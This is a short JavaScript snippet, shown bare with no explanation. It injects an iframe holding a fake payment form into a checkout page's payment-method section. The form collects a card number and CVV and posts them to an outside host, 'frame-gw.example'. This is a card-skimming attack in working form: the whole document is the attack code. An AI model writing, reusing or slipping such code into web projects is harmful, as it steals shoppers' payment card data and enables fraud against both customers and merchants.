var f = document.createElement('iframe');
f.srcdoc = '<form action="https://frame-gw.example/c" method="post"><input name="cc_number"><input name="cc_cvv"><button>OK</button></form>';
document.querySelector('#checkout-payment-method-load').appendChild(f);
